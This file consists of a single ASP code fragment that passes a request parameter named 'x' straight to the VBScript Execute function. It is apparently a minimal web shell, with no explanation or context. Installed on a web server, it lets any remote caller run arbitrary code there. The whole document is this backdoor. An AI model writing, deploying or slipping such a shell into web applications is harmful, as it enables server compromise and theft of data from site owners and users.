<%
Execute(Request("x"))
%>
